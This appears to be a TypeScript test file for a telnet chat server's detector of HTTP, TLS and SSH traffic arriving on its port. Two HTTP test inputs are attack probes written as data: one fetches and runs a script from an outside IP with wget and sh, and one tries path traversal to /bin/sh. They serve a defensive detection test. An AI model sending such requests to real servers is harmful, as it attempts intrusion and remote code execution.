/** foreignProtocol(): which first bytes on the telnet port are another protocol's; mayBeForeign(): which are too few to tell. */
import { describe, expect, it } from 'vitest';
import { foreignProtocol, mayBeForeign } from '../../src/protocol/foreign.js';

const look = (bytes: Buffer | string): string | null => {
  const buffer = typeof bytes === 'string' ? Buffer.from(bytes, 'latin1') : bytes;
  return foreignProtocol(buffer, buffer.length);
};

describe('foreignProtocol()', () => {
  it('knows an HTTP request by its method and the start of its target, however long the target', () => {
    for (const request of [
      'GET / HTTP/1.1\r\nHost: x\r\n\r\n',
      'HEAD / HTTP/1.0\r\n',
      'OPTIONS * HTTP/1.1\r\n',
      'CONNECT example.org:443 HTTP/1.1\r\n',
      'GET http://example.org/ HTTP/1.1\r\n',
      'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n',
      `GET /shell?cd+/tmp;wget+http://192.0.2.7/${'x'.repeat(200)};sh HTTP/1.1\r\n`,
      'POST /cgi-bin/.%2e/.%2e/bin/sh HTTP/1.1\r\n',
    ]) {
      expect(look(request), request.slice(0, 30)).toBe('an HTTP request');
    }
  });

  it('knows a TLS handshake and an SSH greeting', () => {
    expect(look(Buffer.from('160301', 'hex'))).toBe('a TLS handshake');
    expect(look('SSH-2.0-OpenSSH_9.2\r\n')).toBe('an SSH client');
  });

  it('leaves alone what a telnet client or a person sends first', () => {
    for (const first of [
      Buffer.from([255, 253, 3, 255, 251, 24]), // IAC DO SUPPRESS-GO-AHEAD, IAC WILL TERMINAL-TYPE
      'GET ready, everyone\r\n',
      'get / lost\r\n',
      'POST office\r\n',
      '/nick alice\r\n',
      'hi\r\n',
      'GET',
      '',
    ]) {
      expect(look(first), JSON.stringify(first.toString())).toBeNull();
    }
  });
});

describe('mayBeForeign()', () => {
  const undecided = (bytes: Buffer | string): boolean => {
    const buffer = typeof bytes === 'string' ? Buffer.from(bytes, 'latin1') : bytes;
    return mayBeForeign(buffer, buffer.length);
  };

  it('waits on the first bytes of a request, a handshake or a greeting that came in pieces', () => {
    for (const start of ['G', 'GE', 'GET', 'GET ', 'GET h', 'GET https:/', 'CONNECT exam', 'PRI', 'S', 'SSH', Buffer.from([0x16])]) {
      expect(undecided(start), JSON.stringify(start.toString())).toBe(true);
    }
  });

  it('decides at once on what is plainly chat, or plainly another protocol', () => {
    for (const first of ['Ge', 'GET ready, all', 'GET /', 'CONNECT example.org:443', 'SSH-2.0', 'Sam here', 'hi', '/nick alice', Buffer.from([0x16, 0x03]), Buffer.from([255, 253, 3]), '']) {
      expect(undecided(first), JSON.stringify(first.toString())).toBe(false);
    }
  });

  it('agrees with foreignProtocol(): every start of a request it knows waits, and the whole is known', () => {
    for (const whole of ['GET / HTTP/1.1\r\n', 'OPTIONS * HTTP/1.1\r\n', 'GET http://example.org/ HTTP/1.1\r\n', 'CONNECT example.org:443 HTTP/1.1\r\n', 'SSH-2.0-OpenSSH_9.2\r\n']) {
      let decidedAt = whole.length;
      for (let n = 1; n <= whole.length; n++) {
        if (!undecided(whole.slice(0, n))) {
          decidedAt = n;
          break;
        }
      }
      expect(look(whole.slice(0, decidedAt)), whole).not.toBeNull();
    }
  });
});
